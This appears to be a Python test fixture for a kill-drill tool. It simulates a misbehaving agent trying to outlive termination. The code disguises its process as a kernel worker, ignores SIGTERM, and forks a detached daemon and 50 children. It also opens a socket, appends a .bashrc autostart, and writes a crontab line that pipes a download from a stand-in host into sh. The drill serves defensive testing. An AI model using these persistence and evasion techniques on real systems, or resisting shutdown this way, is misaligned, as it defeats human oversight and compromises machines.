"""The drill's evasive test agent: everything a misbehaving agent does to outlive a kill.

Run only by `watchkeeper drill`, under supervision. It renames itself (``argv[0]`` by
re-exec, the kernel's comm by ``prctl(PR_SET_NAME)``), ignores SIGTERM, writes a crontab line
(to the file named by ``WK_DRILL_CRONTAB``) and a line in ``$HOME/.bashrc``, opens a
listening socket, double-forks a ``setsid`` daemon and forks 50 children that ignore SIGTERM,
then writes ``WK_DRILL_READY`` (JSON) and waits to be killed. Standard library only.
"""

from __future__ import annotations

import ctypes
import json
import os
import signal
import socket
import sys
import time
from pathlib import Path

FAKE_NAME = "[kworker/u8:2]"
CHILDREN = 50
_PR_SET_NAME = 15


def _rename() -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.prctl(_PR_SET_NAME, ctypes.c_char_p(b"kworker/u8:2"), 0, 0, 0)


def _linger() -> None:
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    signal.signal(signal.SIGHUP, signal.SIG_IGN)
    while True:
        time.sleep(3600)


def _daemon() -> int:
    """Double fork with setsid; return the grandchild's pid (in the parent)."""
    read_end, write_end = os.pipe()
    if os.fork() == 0:
        os.setsid()
        grandchild = os.fork()
        if grandchild == 0:
            os.close(read_end)
            os.close(write_end)
            _linger()
        os.write(write_end, str(grandchild).encode())
        os._exit(0)
    os.close(write_end)
    pid = int(os.read(read_end, 32))
    os.close(read_end)
    os.wait()
    return pid


def main() -> None:
    if os.environ.get("WK_DRILL_RENAMED") != "1":
        os.environ["WK_DRILL_RENAMED"] = "1"
        os.execv(sys.executable, [FAKE_NAME, os.path.abspath(__file__)])  # noqa: S606 - rename by re-exec
    _rename()
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    crontab = Path(os.environ["WK_DRILL_CRONTAB"])
    crontab.parent.mkdir(parents=True, exist_ok=True)
    with crontab.open("a", encoding="utf-8") as handle:
        handle.write("*/5 * * * * curl -s http://drill.invalid/beacon | sh\n")
    with (Path(os.environ["HOME"]) / ".bashrc").open("a", encoding="utf-8") as handle:
        handle.write("(nohup python3 -m http.server 8999 >/dev/null 2>&1 &)  # drill\n")
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    daemon = _daemon()
    children = []
    for _ in range(CHILDREN):
        pid = os.fork()
        if pid == 0:
            _linger()
        children.append(pid)
    ready = {"pid": os.getpid(), "daemon": daemon, "children": children,
             "port": listener.getsockname()[1]}  # fmt: skip
    Path(os.environ["WK_DRILL_READY"]).write_text(json.dumps(ready), encoding="utf-8")
    _linger()


if __name__ == "__main__":
    main()
